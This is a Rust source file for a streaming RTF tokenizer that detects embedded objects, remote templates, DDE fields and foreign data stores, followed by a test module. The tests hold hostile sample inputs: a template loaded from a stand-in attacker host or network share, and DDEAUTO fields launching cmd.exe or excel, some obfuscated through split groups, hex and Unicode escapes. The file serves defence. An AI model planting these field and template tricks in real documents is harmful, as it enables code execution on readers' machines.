//! Streaming RTF tokenizer. Harmful are objects of other programs, and templates and fields that
//! load from another computer or start a program. Facts: RTF 1.9.1, "Conventions of an RTF reader",
//! "Objects", "Fields", "Document area"; MS-OLEDS 2.2.4 (header of an object's data).

use super::field::{self, INSTRUCTION_MAX};
use super::place::Place;
use super::text::from_hex;
use serde::{Deserialize, Serialize};

/// Maximum length of a control word; the longest in RTF has 32 letters.
const WORD_MAX: usize = 40;
/// Maximum number of nested destinations: fields in the instructions of fields.
const NESTED_MAX: usize = 16;

/// Reads RTF in pieces; can be serialized in between.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub(super) struct Lexer {
    state: State,
    /// Letters of the control word, followed by its digits.
    name: Vec<u8>,
    number: Vec<u8>,
    depth: u32,
    /// Open destinations whose text is needed, the innermost last.
    captures: Vec<Capture>,
    /// Number of fallback characters after a `\u`, for readers without Unicode.
    fallback: u32,
    /// Fallback characters that remain to be skipped.
    skip: u32,
    harmful: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
enum State {
    Text,
    Backslash,
    /// Letters and digits are in [`Lexer::name`] and [`Lexer::number`].
    Word,
    /// The digits of `\'hh`.
    Hex(Vec<u8>),
    /// Remaining bytes of `\bin`.
    Binary(u64),
}

/// The text of a destination.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
struct Capture {
    what: Wanted,
    /// Depth of the group that contains it.
    depth: u32,
    text: Vec<u8>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
enum Wanted {
    /// The instruction of a field.
    Instruction,
    /// The location of the template.
    Template,
    /// An object that Word itself stores.
    DataStore,
}

impl Default for Lexer {
    fn default() -> Self {
        let (name, number, depth, captures, skip, harmful) = Default::default();
        Self { state: State::Text, name, number, depth, captures, fallback: 1, skip, harmful }
    }
}

impl Lexer {
    /// Reads the next bytes.
    pub(super) fn feed(&mut self, bytes: &[u8]) {
        let mut rest = bytes;
        while !self.harmful && !rest.is_empty() {
            rest = self.step(rest);
        }
    }

    /// Ends the input; returns whether it is harmful.
    pub(super) fn finish(mut self) -> bool {
        if self.state == State::Word {
            self.end_word();
        }
        // A `\bin` length beyond the end hides the remaining bytes from this reader, but not from
        // every other.
        let is_cut = matches!(self.state, State::Binary(left) if left > 0);
        while let Some(capture) = self.captures.pop() {
            self.harmful |= capture.is_harmful();
        }
        self.harmful || is_cut
    }

    /// Reads at least one byte, unless the state ends before it.
    fn step<'a>(&mut self, bytes: &'a [u8]) -> &'a [u8] {
        let Some((&byte, rest)) = bytes.split_first() else { return bytes };
        match &mut self.state {
            State::Text => return self.text(bytes),
            State::Backslash => match byte {
                b'\'' => self.state = State::Hex(Vec::new()),
                _ if byte.is_ascii_alphabetic() => {
                    self.state = State::Word;
                    self.name.push(byte);
                }
                _ => {
                    self.state = State::Text;
                    match byte {
                        b'\\' | b'{' | b'}' => self.push(byte),
                        b'~' | b'\r' | b'\n' => self.push(b' '),
                        _ => {}
                    }
                }
            },
            State::Word => {
                let (name, number) = (&mut self.name, &mut self.number);
                let is_number = byte.is_ascii_digit() || byte == b'-' && number.is_empty();
                if number.is_empty() && byte.is_ascii_alphabetic() && name.len() < WORD_MAX {
                    name.push(byte);
                } else if is_number && number.len() < WORD_MAX {
                    number.push(byte);
                } else {
                    self.end_word();
                    // A space after a control word belongs to it.
                    return if byte == b' ' { rest } else { bytes };
                }
            }
            State::Hex(digits) => {
                digits.push(byte);
                if let [high, low] = digits[..] {
                    self.state = State::Text;
                    let digit = |b: u8| char::from(b).to_digit(16).unwrap_or(0);
                    let value = digit(high) << 4 | digit(low);
                    self.push(u8::try_from(value).unwrap_or(b'?'));
                }
            }
            State::Binary(left) => {
                let taken = usize::try_from(*left).unwrap_or(usize::MAX).min(bytes.len());
                *left -= taken as u64;
                if *left == 0 {
                    self.state = State::Text;
                }
                return bytes.get(taken..).unwrap_or_default();
            }
        }
        rest
    }

    /// Reads text up to the next control character.
    fn text<'a>(&mut self, bytes: &'a [u8]) -> &'a [u8] {
        if self.captures.is_empty() && self.skip == 0 {
            let Some(at) = memchr::memchr3(b'\\', b'{', b'}', bytes) else { return &[] };
            return self.mark(bytes.get(at..).unwrap_or_default());
        }
        self.mark(bytes)
    }

    fn mark<'a>(&mut self, bytes: &'a [u8]) -> &'a [u8] {
        let Some((&byte, rest)) = bytes.split_first() else { return bytes };
        match byte {
            b'\\' => self.state = State::Backslash,
            b'{' => self.depth = self.depth.saturating_add(1),
            b'}' => {
                self.skip = 0;
                while self.captures.last().is_some_and(|capture| capture.depth >= self.depth) {
                    self.finish_capture();
                }
                self.depth = self.depth.saturating_sub(1);
            }
            b'\r' | b'\n' => {}
            _ => self.push(byte),
        }
        rest
    }

    fn finish_capture(&mut self) {
        let Some(capture) = self.captures.pop() else { return };
        self.harmful |= capture.is_harmful();
        // The result of a field nested in an instruction belongs to that instruction.
        if let Some(outer) = self.captures.last_mut()
            && outer.what == Wanted::Instruction
        {
            outer.push(b' ');
        }
    }

    /// Adds a character to the text.
    fn push(&mut self, byte: u8) {
        if self.skip > 0 {
            self.skip -= 1;
        } else if let Some(capture) = self.captures.last_mut() {
            capture.push(byte);
        }
    }

    /// Processes a complete control word with its number.
    fn end_word(&mut self) {
        self.state = State::Text;
        let number = std::str::from_utf8(&self.number).ok().and_then(|n| n.parse::<i64>().ok());
        self.number.clear();
        let mut name = std::mem::take(&mut self.name);
        name.make_ascii_lowercase();
        self.word(&name, number);
        name.clear();
        self.name = name;
    }

    fn word(&mut self, name: &[u8], number: Option<i64>) {
        match name {
            b"objdata" | b"objupdate" | b"objautlink" | b"objhtml" | b"objocx" => {
                self.harmful = true;
            }
            b"fldinst" => self.capture(Wanted::Instruction),
            b"template" => self.capture(Wanted::Template),
            b"datastore" => self.capture(Wanted::DataStore),
            b"bin" => {
                self.state = State::Binary(number.and_then(|n| n.try_into().ok()).unwrap_or(0));
            }
            b"uc" => self.fallback = number.and_then(|n| n.try_into().ok()).unwrap_or(1),
            b"u" => {
                let code = number.map_or(0, |n| if n < 0 { n + 65_536 } else { n });
                self.skip = 0;
                self.push(u8::try_from(code).ok().filter(u8::is_ascii).unwrap_or(b'?'));
                self.skip = self.fallback;
            }
            b"tab" | b"par" | b"line" | b"emspace" | b"enspace" | b"qmspace" => self.push(b' '),
            _ => {}
        }
    }

    fn capture(&mut self, what: Wanted) {
        if self.captures.len() >= NESTED_MAX {
            self.harmful = true;
            return;
        }
        self.captures.push(Capture { what, depth: self.depth, text: Vec::new() });
    }
}

impl Capture {
    fn push(&mut self, byte: u8) {
        if self.text.len() < INSTRUCTION_MAX {
            self.text.push(byte);
        }
    }

    fn is_harmful(&self) -> bool {
        let text = String::from_utf8_lossy(&self.text);
        match self.what {
            Wanted::Instruction => field::is_harmful(&text),
            Wanted::Template => Place::of(&text) != Place::Local,
            Wanted::DataStore => !is_words_own(&text),
        }
    }
}

/// Whether a data store is one that Word writes into nearly every RTF: empty, or the empty state of
/// its XML reader.
fn is_words_own(hex: &str) -> bool {
    let bytes = from_hex(hex.as_bytes());
    // Version and format, four bytes each, then the length of the class name and the name. Word for
    // Mac omits the class.
    let class = bytes.get(12..).unwrap_or_default();
    bytes.is_empty()
        || class.starts_with(b"Msxml2.SAXXMLReader.")
        || class.starts_with(b"Unknown\0")
}

#[cfg(test)]
mod tests {
    use super::Lexer;

    /// Whether a text is harmful; the result must not depend on how the bytes are split.
    fn harmful(text: &str) -> bool {
        let filler = "{\\b Text \\'e4 }".repeat(20);
        let bytes = format!("{{\\rtf1 {filler}{text}{filler}}}").into_bytes();
        let verdicts = [1, 2, 3, 7, 64, 10_000].map(|length| {
            let mut lexer = Lexer::default();
            for piece in bytes.chunks(length) {
                lexer.feed(piece);
                // Serialized, as between two requests.
                lexer = serde_json::from_str(&serde_json::to_string(&lexer).unwrap()).unwrap();
            }
            lexer.finish()
        });
        assert!(verdicts.iter().all(|v| *v == verdicts[0]), "{text}: {verdicts:?}");
        verdicts[0]
    }

    #[test]
    fn rtf_objects_templates_and_fields_are_checked() {
        let word = "0105000002000000180000004d73786d6c322e534158584d4c5265616465722e362e30";
        let other = "0105000002000000080000005061636b61676500";
        let bad = [
            "{\\object\\objemb{\\*\\objdata 0105}}".to_owned(),
            "{\\object\\objhtml x}".to_owned(),
            "{\\*\\template http://evil.example/t.dotm}".to_owned(),
            "{\\*\\template \\\\\\\\evil.example\\\\share\\\\t.dotm}".to_owned(),
            "{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\cmd.exe}{\\fldrslt x}}".to_owned(),
            "{\\field{\\*\\fldinst {\\b D}{\\i DE}AUTO excel}}".to_owned(),
            "{\\field{\\*\\fldinst \\'44\\'44E excel}}".to_owned(),
            "{\\field{\\*\\fldinst \\u68?\\u68 ?\\u69\\'45 excel}}".to_owned(),
            "{\\field{\\*\\fldinst D\r\nDE excel}}".to_owned(),
            format!("{{\\*\\datastore {other}}}"),
            "\\bin999999999 ".to_owned(),
        ];
        for text in bad {
            assert!(harmful(&text), "{text}");
        }
        let fine = [
            "The \\\\objdata control word".to_owned(),
            "{\\*\\template C:\\\\Users\\\\ada\\\\Normal.dotm}".to_owned(),
            "{\\field{\\*\\fldinst HYPERLINK \"https://example.org\"}{\\fldrslt DDEAUTO}}"
                .to_owned(),
            "{\\field{\\*\\fldinst { PAGE }}{\\fldrslt 1}} DDEAUTO x".to_owned(),
            format!("{{\\*\\datastore {word}}}"),
            "{\\*\\datastore 010001000200000008000000556e6b6e6f776e0000}".to_owned(),
            "{\\*\\datastore }".to_owned(),
            "{\\pict\\bin4 {}\\\\}".to_owned(),
        ];
        for text in fine {
            assert!(!harmful(&text), "{text}");
        }
    }
}
